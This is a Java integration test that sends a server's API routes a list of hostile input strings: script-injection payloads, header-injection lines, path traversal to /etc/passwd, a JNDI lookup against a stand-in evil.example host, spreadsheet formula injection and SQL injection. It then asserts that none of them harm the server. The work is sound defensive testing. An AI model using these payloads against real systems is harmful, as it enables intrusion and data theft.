package org.soubao.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Every parameter of every route, as the API's description has them, with values meant to harm. */
class HostileRequestsIT extends ServerOverHttp {
  private static final List<String> VALUES =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'-alert(1)-'",
          "javascript:alert(1)",
          "</title><script>alert(1)</script>",
          "--><script>alert(1)</script>",
          "]]><script>alert(1)</script>",
          "x\r\nX-Injected: yes\r\n\r\n<b>",
          "x\nSet-Cookie: a=b",
          "\u0000\u0008\uFFFE",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "file:///etc/passwd",
          "${jndi:ldap://evil.example/a}",
          "=cmd|'/c calc'!A0",
          "' OR 1=1 --",
          "\u202Ereversed",
          "\"".repeat(500),
          "(".repeat(5_000),
          "汛*".repeat(2_000),
          "-".repeat(3_000),
          "999999999999999999999");

  private static final Pattern FIELD_LINE = Pattern.compile("(?im)^(X-Injected|Set-Cookie):");
  private static final Pattern MARKUP = Pattern.compile("(?i)<script>alert|<img src=x|<b>");

  /** A request address with a mark where the value goes. */
  static Stream<String> addresses() throws Exception {
    List<String> addresses = new ArrayList<>();
    JsonNode description = json(get("/openapi.json"));
    description
        .get("paths")
        .properties()
        .forEach(path -> {
          String named = path.getKey().replace("{id}", "bridge-1");
          addresses.add(path.getKey().replace("{id}", "VALUE"));
          addresses.add(named + "?VALUE=x");
          for (JsonNode parameter : path.getValue().at("/get/parameters")) {
            addresses.add(named + "?" + name(parameter) + "=VALUE");
          }
        });
    addresses.addAll(List.of("/?q=VALUE", "/?article=VALUE", "/VALUE", "/api/v1/VALUE"));
    return addresses.stream().filter(address -> address.contains("VALUE")).distinct();
  }

  private static String name(JsonNode parameter) {
    return parameter.has("$ref")
        ? parameter.get("$ref").asText().replaceFirst(".*/", "")
        : parameter.get("name").asText();
  }

  @ParameterizedTest
  @MethodSource("addresses")
  void noValueHarms(String address) throws Exception {
    for (String value : VALUES) {
      String answer = raw(plain(address.replace("VALUE", segment(value))));
      int end = answer.indexOf("\r\n\r\n");
      String fields = answer.substring(0, end);
      assertThat(fields).as(value).startsWith("HTTP/1.1 ").doesNotStartWith("HTTP/1.1 5");
      assertThat(fields).as(value).doesNotContainPattern(FIELD_LINE).contains("nosniff");
      if (isRead(fields)) {
        assertThat(answer.substring(end)).as(value).doesNotContainPattern(MARKUP);
      }
      assertThat(answer).doesNotContain("root:x:0", "Exception", "at org.");
    }
  }

  /** Whether a browser would take it for a document, in which there may be scripts. */
  private static boolean isRead(String fields) {
    String lower = fields.toLowerCase(Locale.ROOT);
    return Set.of("text/html", "image/svg+xml", "text/xml", "application/xml", "+xml").stream()
        .anyMatch(
            lower.lines().filter(line -> line.startsWith("content-type")).findFirst().orElse("")
                ::contains);
  }

  @Test
  void nothingWrites() throws Exception {
    JsonNode description = json(get("/openapi.json"));
    List<String> paths = new ArrayList<>();
    description.get("paths").fieldNames().forEachRemaining(paths::add);
    paths.addAll(PageFiles.load().addresses());
    long before = archive.size();
    for (String path : paths) {
      for (String method :
          List.of("POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND")) {
        String request = plain(path.replace("{id}", "bridge-1")).replaceFirst("GET", method);
        assertThat(raw(request)).as("%s %s", method, path).startsWith("HTTP/1.1 4");
      }
    }
    assertThat(archive.size()).isEqualTo(before);
  }
}
